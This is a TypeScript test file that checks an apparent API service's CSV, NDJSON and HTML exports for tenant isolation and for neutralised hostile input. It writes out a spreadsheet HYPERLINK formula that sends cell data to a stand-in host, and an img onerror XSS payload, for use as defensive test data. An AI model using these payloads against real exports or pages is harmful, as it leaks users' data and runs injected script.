// Exports of an org (CSV, NDJSON, HTML), beside another org: only its own data, and nothing that a spreadsheet or a
// browser runs.
import type { CreatedOrg } from '@switchyard/contracts';
import { startStack, type TestStack, untilMidnightIsFar } from '@switchyard/testing';
import { afterAll, beforeAll, expect, test, vi } from 'vitest';
import { callAs, makeOrg } from './__fixtures__/tenants.ts';

const FORMULA = '=HYPERLINK("http://x/?"&A1,"y")';
const MARKUP = '<img src=x onerror=alert(1)>';
const BOOKED_MS_MAX = 60_000;

interface Exporter {
  readonly org: CreatedOrg;
  /** What is in its exports, and in no other's. */
  readonly own: readonly string[];
}

let stack: TestStack;
let a: Exporter;
let b: Exporter;

beforeAll(untilMidnightIsFar);
beforeAll(async () => {
  stack = await startStack();
  [a, b] = await Promise.all([makeExporter('alpha'), makeExporter('beta')]);
});
afterAll(() => stack?.stop());

/** Makes an org with a call, a refused call and a credit, whose texts are hostile. */
async function makeExporter(name: string): Promise<Exporter> {
  const org = await makeOrg(stack, name);
  const reason = `${FORMULA} ${name} ${MARKUP}`;
  const credit = await callAs<{ id: string }>(stack, stack.key, 'POST', `/v1/orgs/${org.id}/credits`, {
    ...{ amount: 1, reason, reference: `${MARKUP} ${name}` },
  });
  const ask = async (model: string) => {
    const answer = await fetch(`${stack.url}/v1/chat/completions`, {
      method: 'POST',
      headers: {
        ...{ authorization: `Bearer ${org.key}`, 'content-type': 'application/json' },
        ...{
          'x-service-tags': `team=${FORMULA.replaceAll(',', ';')} ${name}`,
          'x-client-request-id': FORMULA,
        },
      },
      body: JSON.stringify({ model, messages: [{ role: 'user', content: 'x' }] }),
    });
    await answer.text();
    return answer.headers.get('x-request-id') as string;
  };
  const calls = [await ask('local/chat'), await ask(`${FORMULA} ${name}`)];
  await vi.waitFor(async () => {
    const { logs } = await exported(org.key);
    for (const id of calls) expect(logs).toContain(id);
  }, BOOKED_MS_MAX);
  return { org, own: [org.id, org.key_id, credit.id, name, ...calls] };
}

/** All exports of an org, by name. */
async function exported(key: string) {
  const month = new Date().toISOString().slice(0, 'yyyy-mm'.length);
  const get = async (path: string) => {
    const answer = await fetch(stack.url + path, { headers: { authorization: `Bearer ${key}` } });
    expect(answer.status, path).toBe(200);
    return answer.text();
  };
  return {
    logs: await get('/v1/logs?format=csv'),
    logLines: await get('/v1/logs?format=ndjson'),
    usage: await get('/v1/usage?group_by=key&format=csv'),
    usageLines: await get('/v1/usage?group_by=key&format=ndjson'),
    tags: await get('/v1/usage?group_by=tag:team&format=csv'),
    statement: await get(`/v1/statements/${month}?format=csv`),
    page: await get(`/v1/statements/${month}?format=html`),
  };
}

test('exports show the org’s own data and nothing of another org', async () => {
  for (const [me, other] of [
    [a, b],
    [b, a],
  ] as const)
    for (const [name, text] of Object.entries(await exported(me.org.key))) {
      const shown = me.own.filter((one) => text.includes(one));
      expect(shown, name).not.toEqual([]);
      for (const one of other.own) expect(text, `${name} shows ${one}`).not.toContain(one);
    }
});

test('no cell of an export is a formula, and no text of a caller is markup', async () => {
  const { logs, usage, tags, statement, page } = await exported(a.org.key);
  for (const [name, text] of Object.entries({ logs, usage, tags, statement })) {
    const cells = cellsOf(text);
    expect(
      cells.filter((cell) => /^[=+@\t\r]/.test(cell) || /^-\D/.test(cell)),
      name,
    ).toEqual([]);
  }
  const texts = [...cellsOf(logs), ...cellsOf(statement)];
  expect(texts).toContain(`'${FORMULA}`);
  expect(texts).toContain(`'${FORMULA} alpha ${MARKUP}`);
  expect(page).not.toContain('<img');
  expect(page).toContain('&lt;img src=x onerror=alert(1)&gt;');
});

/** The cells of a CSV text (RFC 4180). */
function cellsOf(csv: string): string[] {
  const cells = csv.matchAll(/(?:^|,|\r\n)(?:"((?:[^"]|"")*)"|([^",\r\n]*))/g);
  return [...cells].map(([, quoted, plain]) => quoted?.replaceAll('""', '"') ?? plain ?? '');
}
